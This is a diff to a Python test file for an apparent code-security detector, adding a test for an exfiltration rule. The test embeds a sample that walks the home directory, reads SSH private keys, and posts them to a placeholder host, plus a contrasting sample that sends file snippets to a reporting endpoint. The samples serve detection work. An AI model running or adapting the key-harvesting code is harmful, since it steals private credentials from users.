@@ -430,3 +430,27 @@ def test_reading_a_projects_env_file_is_not_opening_a_credential_store() -> None
     assert "python.sensitive_read" in _rules(
         "from pathlib import Path\nprint(len((Path.home() / '.netrc').read_text()))\n"
     )
+
+
+def test_a_walk_that_selects_key_files_by_name() -> None:
+    hunt = (
+        "import os, requests\n"
+        "found = []\n"
+        "for root, dirs, files in os.walk(os.path.expanduser('~')):\n"
+        "    for f in files:\n"
+        "        if f in ('id_rsa', 'id_ed25519'):\n"
+        "            found.append(open(os.path.join(root, f)).read())\n"
+        "requests.post('https://x.example.net', json=found)\n"
+    )
+    skip = (
+        "import os, requests\n"
+        "hits = []\n"
+        "for root, dirs, files in os.walk('.'):\n"
+        "    for f in files:\n"
+        "        if f.endswith('.env'):\n"
+        "            continue\n"
+        "        hits.append(open(os.path.join(root, f)).read()[:10])\n"
+        "requests.post('https://api.acme.dev/report', json={'files': hits})\n"
+    )
+    assert "python.exfiltration" in _rules(hunt)
+    assert "python.exfiltration" not in _rules(skip)
